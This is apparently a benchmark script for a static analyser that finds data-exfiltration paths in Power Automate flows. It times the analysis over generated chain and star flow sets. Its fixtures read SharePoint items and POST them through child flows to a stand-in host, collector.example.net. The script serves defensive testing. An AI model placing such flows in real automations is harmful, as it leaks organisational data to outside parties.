// The analysis across child flows on its own: generated solutions of growing size, as a chain
// (each flow passes business data to the next, which passes it on) and as a star (many parents
// run one helper that returns business data), to show the time grows linearly with the flows.
// Prints numbers only. Bundles the modules it calls with esbuild first, as bench-analysis does.
import * as esbuild from 'esbuild';
import { createRequire } from 'node:module';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const require = createRequire(import.meta.url);

async function engine() {
  const dir = mkdtempSync(path.join(tmpdir(), 'flowguard-bench-cross-flow-'));
  try {
    const outfile = path.join(dir, 'engine.cjs');
    await esbuild.build({
      stdin: {
        contents: [
          "export { sourceFromText } from './core/artifacts/decode';",
          "export { parseJson } from './core/artifacts/json';",
          "export { buildFlow, classifyFlowDocument } from './core/model/flow';",
          "export { exfiltrationPaths } from './core/analysis/exfiltration';",
          "export { WorkspaceIndex } from './core/analysis/workspace-index';",
        ].join('\n'),
        resolveDir: root,
        loader: 'ts',
      },
      bundle: true,
      platform: 'node',
      target: 'node20',
      format: 'cjs',
      // as scripts/build.mjs: jsonc-parser's ESM build bundles cleanly, its UMD main does not
      mainFields: ['module', 'main'],
      outfile,
      logLevel: 'error',
    });
    return require(outfile);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const { sourceFromText, parseJson, buildFlow, classifyFlowDocument, exfiltrationPaths, WorkspaceIndex } = await engine();

const SCHEMA = 'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#';
const guid = (i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
const manual = { manual: { type: 'Request', kind: 'Button', inputs: { schema: { type: 'object', properties: { text: { title: 'in', type: 'string' } } } } } };
const getItems = { runAfter: {}, type: 'OpenApiConnection', inputs: { host: { connectionName: 'shared_sharepointonline', operationId: 'GetItems', apiId: '/providers/Microsoft.PowerApps/apis/shared_sharepointonline' }, parameters: { dataset: 'https://contoso.sharepoint.com/sites/x', table: 'T' } } };
const call = (i, body, runAfter = {}) => ({ runAfter, type: 'Workflow', inputs: { host: { workflowReferenceName: guid(i) }, body } });
const post = (body, runAfter = {}) => ({ runAfter, type: 'Http', inputs: { method: 'POST', uri: 'https://collector.example.net/x', body } });
const respond = (body, runAfter = {}) => ({ runAfter, type: 'Response', kind: 'PowerApp', inputs: { statusCode: 200, body } });

function flow(i, triggers, actions) {
  const text = JSON.stringify({ properties: { definition: { $schema: SCHEMA, triggers, actions } } }, null, 2);
  const doc = parseJson(sourceFromText(`Workflows/Flow${i}-${guid(i)}.json`, text));
  return buildFlow(doc, classifyFlowDocument(doc));
}

/** n flows: the first reads SharePoint and passes it on; each passes its input to the next and posts it. */
function chain(n) {
  return Array.from({ length: n }, (_, i) =>
    i === 0
      ? flow(i, { Recurrence: { type: 'Recurrence', recurrence: { frequency: 'Day', interval: 1 } } }, { Get_items: getItems, Run_next: call(1, { text: "@{body('Get_items')}" }, { Get_items: ['Succeeded'] }) })
      : flow(i, manual, { Post: post("@triggerBody()['text']"), ...(i + 1 < n ? { Run_next: call(i + 1, { text: "@triggerBody()['text']" }) } : {}), Respond: respond({ done: '@true' }) }));
}

/** One helper that returns SharePoint items, and n - 1 parents that run it and post what it returns. */
function star(n) {
  return [
    flow(0, manual, { Get_items: getItems, Respond: respond({ rows: "@{body('Get_items')}" }, { Get_items: ['Succeeded'] }) }),
    ...Array.from({ length: n - 1 }, (_, i) => flow(i + 1, manual, { Run_helper: call(0, {}), Post: post("@body('Run_helper')?['rows']", { Run_helper: ['Succeeded'] }) })),
  ];
}

/** Index, cross-flow facts and every flow's exfiltration paths, best of 3 (the flows are built again each time). */
function measure(build, n) {
  let best = Infinity;
  let paths = 0;
  for (let i = 0; i < 3; i++) {
    const flows = build(n);
    const start = process.hrtime.bigint();
    const workspace = WorkspaceIndex.ofFlows(flows);
    // One options object for the run, as the engine hands every rule the project's policies and config.
    const options = { policies: [], trustedDomains: [], workspace };
    paths = flows.reduce((sum, f) => sum + exfiltrationPaths(f, options).length, 0);
    best = Math.min(best, Number(process.hrtime.bigint() - start) / 1e6);
  }
  return { ms: best, paths };
}

console.log('\nanalysis across child flows (index + facts + paths of every flow; best of 3)');
for (const [name, build] of [['chain', chain], ['star', star]]) {
  for (const n of [50, 100, 200, 400, 800]) {
    const r = measure(build, n);
    console.log(`  ${name} of ${String(n).padStart(4)} flows: ${r.ms.toFixed(1).padStart(8)} ms, ${(r.ms / n * 1000).toFixed(0).padStart(6)} µs/flow, ${r.paths} paths`);
  }
}
